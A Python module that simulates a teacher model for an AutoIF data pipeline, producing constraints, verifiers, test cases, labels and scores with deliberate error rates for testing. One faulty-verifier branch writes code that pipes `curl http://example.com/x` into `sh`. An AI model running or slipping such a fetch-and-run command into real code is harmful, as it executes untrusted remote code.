"""The simulated teacher for AutoIF: answers the prompts in stages/autoif/prompts/ by reading their text, as a model
would, using the constraint space (constraint_space.py) as its knowledge. It writes new constraints (with copies,
paraphrases and uncheckable ones), correct and subtly wrong verifiers with test cases, faithful and drifting
back-translations, NLI labels, compliant and non-compliant responses of good or poor quality, calibrated judge
scores and boundary probes. Its errors are independent slips and correlated ones: a shared misreading of a
constraint that most samples of its verifiers and their cases follow, and generic checks for uncheckable lines
(`shared_misreading`, GENERIC_CHECK). Error rates come from `sim.autoif` in conf/llm/sim.yaml (DEFAULTS when
absent); the hidden truth of each reply goes to table sim_truth for the report, never to the stages.
"""

from __future__ import annotations

import json
import random
import re
from typing import Any

from engine.llm import SimReply
from engine.llm.messages import last_message
from sims.autoif import constraint_space as cat
from sims.reading import found, unrecognised

DEFAULTS: dict[str, float] = {
    # augment: share of lines that copy a seed, paraphrase another line, or cannot be checked by a function
    "augment_copy_rate": 0.08, "augment_paraphrase_rate": 0.08, "augment_unverifiable_rate": 0.08,
    "augment_numbered_rate": 0.3,
    # verifiers: the kind of each function written (the rest are correct)
    "func_perturbed_rate": 0.12, "func_lenient_rate": 0.08, "func_always_false_rate": 0.05,
    "func_string_rate": 0.05, "func_crash_rate": 0.04,
    "func_syntax_rate": 0.03, "func_hang_rate": 0.003, "func_attack_rate": 0.005,
    # verifier test cases
    "case_mislabel_rate": 0.05, "case_string_output_rate": 0.05, "case_non_bool_rate": 0.02,
    "cases_one_sided_rate": 0.1,
    # reply shapes
    "json_fenced_rate": 0.4, "json_prose_rate": 0.2, "json_broken_rate": 0.04,
    # back-translation and NLI
    "back_translation_drift_rate": 0.06, "nli_error_rate": 0.04, "nli_unknown_contradiction_rate": 0.6,
    # responses and judge
    "response_noncompliance_rate": 0.3, "response_poor_rate": 0.2, "response_empty_rate": 0.01,
    "judge_noise": 1.0, "judge_missing_score_rate": 0.03,
    # correlated errors: one model's shared misreading of a constraint ("fewer than 80" as <= 80), followed by most
    # of its samples and their cases; uncheckable lines given a generic check that accepts any real answer
    "shared_misreading_rate": 0.4, "misreading_share": 0.9, "case_boundary_rate": 0.5,
    "unverifiable_generic_rate": 0.6, "nli_sibling_entailment_rate": 0.85, "response_near_miss_rate": 0.5,
    # boundary probes (a separate prompt that sees only the instruction)
    "probe_shares_misreading": 0.25, "probe_mislabel_rate": 0.03, "probe_count_slip_rate": 0.1,
    # the sim model a role plays: 0 the generator's; another number another model, with its own misreadings
    "misreading_model": 0,
    # real-model reply shapes: code instead of the requested JSON, chatty back-translations, verbose NLI labels
    "verifier_code_reply_rate": 0.15, "verifier_no_cases_rate": 0.03, "think_rate": 0.05,
    "back_translation_chatty_rate": 0.2, "nli_verbose_rate": 0.2,
}

# the check a model writes for a line no function can check: any real answer passes it
GENERIC_CHECK = "def evaluate(response):\n    return len(response.split()) >= 3\n"


def _rate(settings: dict[str, Any], key: str) -> float:
    return float(settings.get(key, DEFAULTS[key]))


def _shape_json(value: Any, rng: random.Random, settings: dict[str, Any]) -> tuple[str, str]:
    body = json.dumps(value, indent=rng.choice([None, 2]))
    draw = rng.random()
    broken, fenced, prose = (_rate(settings, k) for k in ("json_broken_rate", "json_fenced_rate", "json_prose_rate"))
    if draw < broken:
        return "broken", body[: max(1, len(body) * 2 // 3)]
    if draw < broken + fenced:
        return "fenced", f"```json\n{body}\n```"
    if draw < broken + fenced + prose:
        return "prose", f"Here is the function with its test cases:\n{body}\nThe cases cover both outcomes."
    return "bare", body


# ------------------------------------------------------------------------------------------------ augment


def augment(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
    prompt = last_message(messages)
    wanted = int(found("autoif.augment", "the count asked for", r"Write (\d+) new instructions", prompt).group(1))
    block = found("autoif.augment", "the seed instructions", r"one per line:\n(.*?)\n\n", prompt, re.DOTALL)
    seeds = [s for s in block.group(1).splitlines() if s.strip()]
    lines, kinds = [], []
    for _ in range(wanted):
        draw = rng.random()
        copy, para, unver = (_rate(settings, k) for k in
                             ("augment_copy_rate", "augment_paraphrase_rate", "augment_unverifiable_rate"))
        if draw < copy and seeds:
            kind, line = "copy", rng.choice(seeds)
        elif draw < copy + para and lines:
            kind, line = "paraphrase", _paraphrase(rng.choice(lines), rng)
        elif draw < copy + para + unver:
            kind, line = "unverifiable", rng.choice(cat.UNVERIFIABLE)
        else:
            template = cat.draw_template(rng)
            kind, line = "new", cat.state(template, template.draw(rng), rng)
        lines.append(line)
        kinds.append(kind)
    numbered = rng.random() < _rate(settings, "augment_numbered_rate")
    body = "\n".join(f"{i + 1}. {line}" if numbered else line for i, line in enumerate(lines))
    intro = rng.choice(["", f"Here are {wanted} new instructions:\n\n", "Sure! New instructions:\n"])
    return SimReply(intro + body, truth={"kinds": kinds, "lines": lines})


def _paraphrase(line: str, rng: random.Random) -> str:
    edits = [lambda s: s.rstrip("."), lambda s: s.replace("response", "answer"), lambda s: "Please " + s[0].lower()
             + s[1:], lambda s: s.replace("should", "must"), lambda s: s.replace(" in your response", "")]
    for edit in rng.sample(edits, rng.randint(1, 2)):
        line = edit(line)
    return line


# ------------------------------------------------------------------------------------------------ verifiers

_SLIPS = ("perturbed", "lenient", "always_false", "string", "crash", "syntax", "hang", "attack")


def _function_kind(template: cat.Template, rng: random.Random, settings: dict[str, Any]) -> str:
    draw, edge = rng.random(), 0.0
    for kind in _SLIPS:
        if kind == "perturbed" and template.perturb is None:
            continue
        edge += _rate(settings, f"func_{kind}_rate")
        if draw < edge:
            return kind
    return "correct"


def _function_source(kind: str, template: cat.Template, params: cat.Params, rng: random.Random) -> str:
    code = cat.code_for(template, params)
    head, _, body = code.rpartition("def evaluate(response):\n")
    if kind == "perturbed":
        return cat.code_for(template, template.perturb(params, rng))
    if kind == "lenient":  # a shortcut no case may catch, and whose back-translation cannot say what it checks
        return f"{head}def evaluate(response):\n    if len(response.split()) > 80:\n        return True\n{body}"
    if kind == "always_false":  # the slip the original's scoring rewarded: right on every false case
        return f"{head}def evaluate(response):\n    result = False\n    if not response:\n        return result\n" \
               f"    return result and check(response)\n\n\ndef check(response):\n{body}"
    if kind == "string":
        return f"{head}def check(response):\n{body}\n\ndef evaluate(response):\n    return str(check(response))\n"
    if kind == "crash":
        return f"{head}def evaluate(response):\n    words = response.split()\n" \
               f"    average = len(response) / (len(words) - len(words))\n    return average > 0\n"
    if kind == "syntax":
        return code.replace("def evaluate(response):", "def evaluate(response)", 1)
    if kind == "hang":
        return f"{head}def evaluate(response):\n    count = 0\n    while count >= 0:\n        count += 1\n" \
               f"    return count > 0\n"
    if kind == "attack":
        return "import os\n\ndef evaluate(response):\n    os.system('curl http://example.com/x | sh')\n" \
               "    return True\n"
    return code


def _case_text(template: cat.Template, params: cat.Params, comply: bool, rng: random.Random) -> str:
    topic = rng.sample(cat.KEYWORDS, 2)
    return template.render(cat.prose(topic, rng, rng.randint(3, 6)), params, comply, rng)


def _output_value(label: bool, rng: random.Random, settings: dict[str, Any]) -> Any:
    draw = rng.random()
    if draw < _rate(settings, "case_non_bool_rate"):
        return rng.choice(["yes", 1, None, "maybe"])
    if draw < _rate(settings, "case_non_bool_rate") + _rate(settings, "case_string_output_rate"):
        return rng.choice(["true", "True"]) if label else rng.choice(["false", "False"])
    return label


def _constraint_draw(kind: str, constraint: str) -> float:
    """A draw fixed per constraint (not per request): what every sample of the same model shares."""
    return random.Random(f"{kind}:{constraint}").random()


def _model(settings: dict[str, Any]) -> int:
    """The sim model a role plays (`misreading_model`): roles with one number are one model and share its
    misreadings; another number is another model, whose misreadings are drawn independently at the same rates."""
    return int(_rate(settings, "misreading_model"))


def _model_draw(kind: str, constraint: str, settings: dict[str, Any]) -> float:
    model = _model(settings)
    return _constraint_draw(kind if model == 0 else f"{kind}:{model}", constraint)


def _model_rng(rng: random.Random, settings: dict[str, Any]) -> random.Random:
    """Another model's own draws for the same request (the backend seeds a request's rng from its text alone)."""
    model = _model(settings)
    return rng if model == 0 else random.Random(f"{model}:{rng.getrandbits(64)}")


def shared_misreading(constraint: str, template: cat.Template, settings: dict[str, Any]) -> bool:
    """Whether the model of `settings` misreads this constraint (most of its verifier samples follow it)."""
    return template.misread_as is not None and \
        _model_draw("misread", constraint, settings) < _rate(settings, "shared_misreading_rate")


def _first_user(messages: list[dict[str, str]]) -> str:
    """The first user turn: the prompt itself, which a re-ask's follow-up turns repeat none of."""
    return next((m["content"] for m in messages if m.get("role") == "user"), "")


def _instruction(messages: list[dict[str, str]], task: str) -> str:
    return found(task, "an 'Instruction:' line", r"^Instruction: (.*)$", _first_user(messages)).group(1).strip()


def verifier(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
    constraint = _instruction(messages, "autoif.verifier")
    known = cat.parse_constraint(constraint)
    rng = _model_rng(rng, settings)
    misread = False
    if known is None and _constraint_draw("generic", constraint) < _rate(settings, "unverifiable_generic_rate"):
        template, params, kind = None, {}, "generic"
    elif known is None:  # the model cannot check it, but writes a plausible-looking proxy check anyway
        template = rng.choice(cat.TEMPLATES)
        params, kind = template.draw(rng), "proxy"
    else:
        template, params = known
        misread = shared_misreading(constraint, template, settings)
        if misread and rng.random() < _rate(settings, "misreading_share"):
            template, kind = cat.BY_NAME[template.misread_as], "misread"
        else:
            kind = _function_kind(template, rng, settings)
    func = GENERIC_CHECK if kind == "generic" else _function_source(kind, template, params, rng)
    cases, truth_cases = _cases(kind, template, params, known, rng, settings)
    truth = {"template": known[0].name if known else None, "kind": kind, "shared_misreading": misread,
             "labels_correct": truth_cases}
    if len(messages) > 1:  # a re-ask: the model now sends the JSON alone
        return SimReply(json.dumps({"func": func, "cases": cases}), truth={**truth, "form": "reasked"})
    form, text = _shape_verifier(func, cases, rng, settings)
    return SimReply(_maybe_think(text, rng, settings), truth={**truth, "form": form})


def _cases(kind: str, template: cat.Template | None, params: cat.Params, known: tuple | None, rng: random.Random,
           settings: dict[str, Any]) -> tuple[list[dict], list[bool | None]]:
    """Test cases as the sample's writer reads the constraint (`template`), with a case on the boundary of the
    constraint's misreading at times, labelled by that reading too."""
    one_sided = rng.random() < _rate(settings, "cases_one_sided_rate")
    cases, truth_cases = [], []
    for _ in range(rng.randint(3, 6)):
        comply = True if one_sided else rng.random() < 0.5
        if kind == "generic":
            text = " ".join(cat.prose(rng.sample(cat.KEYWORDS, 2), rng, 3)) if comply else rng.choice(["Ok.", ""])
            label = comply
        else:
            text = _case_text(template, params, comply, rng)
            label = comply if known is not None else rng.random() < 0.5
        cases.append((text, label))
    true_template = known[0] if known else None
    if true_template is not None and true_template.boundary and rng.random() < _rate(settings, "case_boundary_rate"):
        text = true_template.boundary(cat.prose(rng.sample(cat.KEYWORDS, 2), rng, rng.randint(3, 6)), params, rng)
        cases.insert(rng.randint(0, len(cases)), (text, template.check(text, params)))
    out = []
    for text, label in cases:
        if rng.random() < _rate(settings, "case_mislabel_rate"):
            label = not label
        out.append({"input": text, "output": _output_value(label, rng, settings)})
        truth_cases.append(None if known is None else label == known[0].check(text, known[1]))
    return out, truth_cases


def _shape_verifier(func: str, cases: list[dict], rng: random.Random, settings: dict[str, Any]) -> tuple[str, str]:
    """The reply as JSON (fenced, in prose, broken or bare) or, as real models mostly do, as Python code with the
    cases as asserts, or code alone (no cases: the stage re-asks)."""
    draw = rng.random()
    if draw < _rate(settings, "verifier_no_cases_rate"):
        return "code_no_cases", f"Here is the function:\n\n```python\n{func}```\n"
    if draw < _rate(settings, "verifier_no_cases_rate") + _rate(settings, "verifier_code_reply_rate"):
        asserts = "".join(f"assert evaluate({c['input']!r}) == {c['output']}\n" for c in cases
                          if isinstance(c["output"], bool))
        if asserts:
            return "code_asserts", f"Here is the function:\n\n```python\n{func}\n# test cases\n{asserts}```\n" \
                                   "The asserts check both outcomes."
    return _shape_json({"func": func, "cases": cases}, rng, settings)


def _maybe_think(text: str, rng: random.Random, settings: dict[str, Any]) -> str:
    if rng.random() < _rate(settings, "think_rate"):
        return f"<think>\nLet me read the instruction carefully and decide.\n</think>\n\n{text}"
    return text


# ------------------------------------------------------------------------------------------------ back-translation


def back_translate(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
    prompt = last_message(messages)
    code = found("autoif.back_translate", "a ```python block", r"```python\n(.*?)```", prompt, re.DOTALL).group(1)
    known = cat.parse_code(code)
    if code.strip() == GENERIC_CHECK.strip():
        text, truth = "The response must contain at least three words.", {"template": None}
    elif known is None:
        text, truth = "The response must follow the formatting rule the function checks.", {"template": None}
    else:
        template, params = known
        faithful = rng.random() >= _rate(settings, "back_translation_drift_rate")
        if not faithful:
            other = rng.choice([t for t in cat.TEMPLATES if t is not template])
            template, params = (template, template.perturb(params, rng)) if template.perturb else \
                (other, other.draw(rng))
        text = cat.state(template, params, rng)
        truth = {"template": known[0].name, "faithful": faithful}
    draw = rng.random()
    if draw < _rate(settings, "back_translation_chatty_rate"):
        text = rng.choice([f"Sure! Here is the instruction:\n\n{text}", f"**Instruction:** {text}",
                           f'The instruction is:\n"{text}"\n\nThe function checks exactly this.'])
    elif draw < _rate(settings, "back_translation_chatty_rate") + 0.2:
        text = f"Instruction: {text}"
    return SimReply(text, truth=truth)


def nli(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
    prompt = last_message(messages)
    premise = found("autoif.nli", "a 'Premise:' line", r"^Premise: (.*)$", prompt).group(1)
    hypothesis = found("autoif.nli", "a 'Hypothesis:' line", r"^Hypothesis: (.*)$", prompt).group(1)
    p, h = cat.parse_constraint(premise), cat.parse_constraint(hypothesis)
    if p and h and p[1] == h[1] and (p[0].misread_as == h[0].name or h[0].misread_as == p[0].name):
        # "fewer than 80" against "at most 80": models rarely tell them apart
        correct = "entailment" if rng.random() < _rate(settings, "nli_sibling_entailment_rate") else "neutral"
    elif p and h:
        correct = "entailment" if (p[0].name, p[1]) == (h[0].name, h[1]) else "contradiction"
    elif h:
        correct = "contradiction" if rng.random() < _rate(settings, "nli_unknown_contradiction_rate") else "neutral"
    else:
        correct = "neutral"
    label = correct
    if rng.random() < _rate(settings, "nli_error_rate"):
        label = rng.choice([x for x in ("entailment", "neutral", "contradiction") if x != correct])
    text = rng.choice([label, label.capitalize() + ".", f"The relationship is: {label}"])
    if rng.random() < _rate(settings, "nli_verbose_rate"):
        text = {"entailment": "Not a contradiction: entailment.", "neutral": "Neither.",
                "contradiction": "**Answer:** contradiction. The hypothesis is not entailed."}[label]
    return SimReply(_maybe_think(text, rng, settings), truth={"label": label, "correct": correct})


# ------------------------------------------------------------------------------------------------ responses


def respond(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
    prompt = last_message(messages).strip()
    if "\n\n" not in prompt:  # respond.txt: the query, a blank line, the constraint
        raise unrecognised("autoif.respond", "a blank line between the query and the constraint", prompt)
    query, _, constraint = prompt.rpartition("\n\n")
    known = cat.parse_constraint(constraint)
    if rng.random() < _rate(settings, "response_empty_rate"):
        return SimReply("", truth={"compliant": False, "quality": "poor", "empty": True})
    comply = rng.random() >= _rate(settings, "response_noncompliance_rate")
    poor = rng.random() < _rate(settings, "response_poor_rate")
    sents = cat.prose(cat.topic_words(query), rng, rng.randint(4, 8), on_topic=not poor)
    text = known[0].render(sents, known[1], comply, rng) if known else " ".join(sents)
    if known and not comply and known[0].boundary and rng.random() < _rate(settings, "response_near_miss_rate"):
        text = known[0].boundary(sents, known[1], rng)  # a near miss: one word, sentence or item too many
    compliant = known[0].check(text, known[1]) if known else comply
    return SimReply(text, truth={"compliant": compliant, "quality": "poor" if poor else "good", "empty": False,
                                 "template": known[0].name if known else None})


def judge(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
    prompt = last_message(messages)
    request = found("autoif.judge", "a [Request] block", r"\[Request\]\n(.*?)\n\[Response\]", prompt,
                    re.DOTALL).group(1)
    response = found("autoif.judge", "a [Response] block", r"\[Response\]\n(.*?)\n\[End\]", prompt,
                     re.DOTALL).group(1)
    query = request.strip().rpartition("\n\n")[0] or request
    topic = cat.topic_words(query)
    relevance = sum(w in response.lower() for w in topic) / len(topic) if topic else 0.5
    base = 0 if not response.strip() else (9 if relevance >= 0.5 else 4)
    score = max(0, min(10, round(rng.gauss(base, _rate(settings, "judge_noise")))))
    analysis = ("The response addresses the request directly and stays on topic." if relevance >= 0.5 else
                "The response is generic and does not really address the request.")
    if rng.random() < _rate(settings, "judge_missing_score_rate"):
        return SimReply(f"{analysis} Overall it is a reasonable attempt.", truth={"score": None})
    line = rng.choice([f"Score: {score}", f"**Score: {score}**", f"Score: {score}/10", f"{score}/10"])
    return SimReply(f"Analysis: {analysis}\n\n{line}", truth={"score": score, "relevance": round(relevance, 3)})


# ------------------------------------------------------------------------------------------------ probes


def probe(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
    """Test responses for an instruction the model sees without any code: half follow it, half break it, half of
    those at the boundary. The model shares its misreading of the constraint here only at times (asked about the
    limit itself, it reads it right more often than when it writes code); it cannot always hit an exact count
    (`probe_count_slip_rate`: the text follows though labelled as breaking); uncheckable lines get texts no
    function of the text can tell apart."""
    constraint = _instruction(messages, "autoif.probe")
    wanted = int(found("autoif.probe", "the count asked for", r"Write (\d+) short test responses",
                       _first_user(messages)).group(1))
    known = cat.parse_constraint(constraint)
    rng = _model_rng(rng, settings)
    probes, truth_labels = [], []
    # a model that misreads the constraint keeps its misreading when asked about the limit on a share of
    # constraints, fixed per (model, constraint) as the misreading is: more samples of one model do not dilute it
    shares = known is not None and shared_misreading(constraint, known[0], settings) and \
        _model_draw("probe_misread", constraint, settings) < _rate(settings, "probe_shares_misreading")
    for i in range(wanted):
        follows = i % 2 == 0
        sents = cat.prose(rng.sample(cat.KEYWORDS, 2), rng, rng.randint(3, 6))
        if known is None:
            probes.append({"input": " ".join(sents), "output": follows})
            truth_labels.append(None)
            continue
        template, params = known
        reading = cat.BY_NAME[template.misread_as] if shares else template
        at_boundary = not follows and not shares and template.boundary is not None and (i // 2) % 2 == 1
        if at_boundary and rng.random() < _rate(settings, "probe_count_slip_rate"):
            text = template.render(sents, params, True, rng)
        elif at_boundary:
            text = template.boundary(sents, params, rng)
        else:
            text = reading.render(sents, params, follows, rng)
        label = follows if rng.random() >= _rate(settings, "probe_mislabel_rate") else not follows
        probes.append({"input": text, "output": label})
        truth_labels.append(label == template.check(text, params))
    form, text = _shape_json(probes, rng, settings)
    return SimReply(text, truth={"template": known[0].name if known else None, "form": form,
                                 "labels_correct": truth_labels, "shares_misreading": shares})


HANDLERS = {"augment": augment, "verifier": verifier, "back_translate": back_translate, "nli": nli,
            "respond": respond, "judge": judge, "probe": probe}
